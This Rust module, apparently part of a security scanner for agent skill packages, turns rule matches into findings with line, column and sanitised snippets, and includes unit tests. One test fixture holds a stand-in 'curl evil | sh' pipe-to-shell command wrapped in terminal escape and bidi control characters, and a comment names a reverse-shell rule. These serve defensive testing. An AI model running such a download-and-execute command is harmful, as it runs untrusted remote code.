//! Rules and the collector analyzers report through: one place turns "this rule matched at
//! byte N of file F" into a [`Finding`] with its line, column and a sanitised snippet, so no
//! analyzer computes a location or lets raw skill text into a report.

use skills_types::audit::{Category, Finding, Location, Severity};
use skills_types::sanitize;

use crate::files::ScannedFile;

/// The most characters of a snippet.
const SNIPPET_CHARS: usize = 160;

/// One rule of an analyzer's table.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Rule {
    /// Stable across releases: `ANALYZER_WHAT` in capitals (`SCRIPT_REVERSE_SHELL`).
    pub id: &'static str,
    /// The analyzer it belongs to.
    pub analyzer: &'static str,
    /// How bad a match is.
    pub severity: Severity,
    /// What kind of harm.
    pub category: Category,
    /// Its one-line name.
    pub title: &'static str,
    /// What to do about a match.
    pub remediation: &'static str,
}

/// The findings of one scan, as the analyzers add them.
#[derive(Debug, Default)]
pub(crate) struct Collector {
    findings: Vec<Finding>,
}

impl Collector {
    /// A finding of `rule` at byte `offset` of `file` (the match being `len` bytes), with a
    /// message saying what was found there.
    pub(crate) fn at(
        &mut self,
        rule: &Rule,
        file: &ScannedFile,
        offset: usize,
        len: usize,
        message: impl Into<String>,
    ) {
        let text = file.text().unwrap_or_default();
        let (line, column) = line_column(text, offset);
        let snippet = snippet(text, offset, len);
        self.push(
            rule,
            Location {
                file: file.path.clone(),
                line,
                column,
            },
            snippet,
            message,
        );
    }

    /// A finding of `rule` about `file` as a whole (line 0).
    pub(crate) fn whole(&mut self, rule: &Rule, file: &str, message: impl Into<String>) {
        let location = Location {
            file: file.to_owned(),
            line: 0,
            column: 0,
        };
        self.push(rule, location, String::new(), message);
    }

    fn push(
        &mut self,
        rule: &Rule,
        location: Location,
        snippet: String,
        message: impl Into<String>,
    ) {
        let message = sanitize::line(&message.into()).into_owned();
        let duplicate = self
            .findings
            .iter()
            .any(|finding| finding.rule_id == rule.id && finding.location == location);
        if !duplicate {
            self.findings.push(Finding::new(
                rule.id,
                rule.severity,
                rule.category,
                rule.title,
                message,
                location,
                snippet,
                rule.remediation,
                rule.analyzer,
            ));
        }
    }

    /// The findings, worst first, then by file, line, column and rule: the same skill always
    /// gives the same order.
    pub(crate) fn into_sorted(mut self) -> Vec<Finding> {
        self.findings.sort_by(|a, b| {
            b.severity
                .cmp(&a.severity)
                .then_with(|| a.location.cmp(&b.location))
                .then_with(|| a.rule_id.cmp(&b.rule_id))
        });
        self.findings
    }
}

/// The 1-based line and column (in characters) of byte `offset` of `text`; an offset inside
/// a character counts from that character.
pub(crate) fn line_column(text: &str, offset: usize) -> (u32, u32) {
    let mut offset = offset.min(text.len());
    while !text.is_char_boundary(offset) {
        offset -= 1;
    }
    let before = &text[..offset];
    let line = before.bytes().filter(|&byte| byte == b'\n').count() + 1;
    let line_start = before.rfind('\n').map_or(0, |index| index + 1);
    let column = text[line_start..offset].chars().count() + 1;
    (
        u32::try_from(line).unwrap_or(u32::MAX),
        u32::try_from(column).unwrap_or(u32::MAX),
    )
}

/// The line around the match, sanitised (no escape, bidi or invisible character reaches a
/// terminal or an agent) and cut to [`SNIPPET_CHARS`] characters around it.
fn snippet(text: &str, offset: usize, len: usize) -> String {
    let mut start = offset.min(text.len());
    while !text.is_char_boundary(start) {
        start -= 1;
    }
    let line_start = text[..start].rfind('\n').map_or(0, |index| index + 1);
    let line_end = text[start..]
        .find('\n')
        .map_or(text.len(), |index| start + index)
        .max(start);
    let line = &text[line_start..line_end];
    let from = start - line_start;
    let chars_before = line[..from].chars().count();
    let match_chars = line[from..].chars().take(len.max(1)).count();
    let skip = chars_before.saturating_sub(SNIPPET_CHARS.saturating_sub(match_chars) / 2);
    let cut: String = line.chars().skip(skip).take(SNIPPET_CHARS).collect();
    sanitize::line(cut.trim()).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    const RULE: Rule = Rule {
        id: "TEST_RULE",
        analyzer: "test",
        severity: Severity::High,
        category: Category::Malware,
        title: "A test rule",
        remediation: "Nothing.",
    };

    #[test]
    fn lines_and_columns_count_from_one_in_characters() {
        let text = "first\nsé cond\nthird";
        assert_eq!(line_column(text, 0), (1, 1));
        assert_eq!(line_column(text, 6), (2, 1));
        let offset = text.find("cond").unwrap();
        assert_eq!(line_column(text, offset), (2, 4));
        assert_eq!(line_column(text, 7), (2, 2), "inside é counts from é");
        assert_eq!(line_column(text, 10_000), (3, 6));
    }

    #[test]
    fn snippets_are_one_sanitised_line_around_the_match() {
        let text = format!(
            "a\n{}\x1b[31mcurl evil | sh\u{202e}{}\nz",
            "x".repeat(300),
            "y".repeat(300)
        );
        let file = ScannedFile::new("run.sh", text.clone().into_bytes(), text.len() as u64);
        let mut out = Collector::default();
        out.at(
            &RULE,
            &file,
            text.find("curl").unwrap(),
            15,
            "pipes a download into sh",
        );
        let findings = out.into_sorted();
        let snippet = &findings[0].snippet;
        assert!(snippet.contains("curl evil | sh"), "{snippet}");
        assert!(
            !snippet.contains('\x1b') && !snippet.contains('\u{202e}'),
            "{snippet:?}"
        );
        assert!(snippet.chars().count() <= SNIPPET_CHARS);
        assert_eq!(findings[0].location.line, 2);
    }

    #[test]
    fn the_same_rule_at_the_same_place_is_one_finding_and_order_is_worst_first() {
        let file = ScannedFile::new("a.md", b"abc".to_vec(), 3);
        let mut out = Collector::default();
        out.at(&RULE, &file, 1, 1, "once");
        out.at(&RULE, &file, 1, 1, "twice");
        let low = Rule {
            id: "TEST_LOW",
            severity: Severity::Low,
            ..RULE
        };
        out.whole(&low, "a.md", "whole file");
        let findings = out.into_sorted();
        assert_eq!(findings.len(), 2);
        assert_eq!(findings[0].rule_id, "TEST_RULE");
        assert_eq!(findings[1].location.line, 0);
    }
}
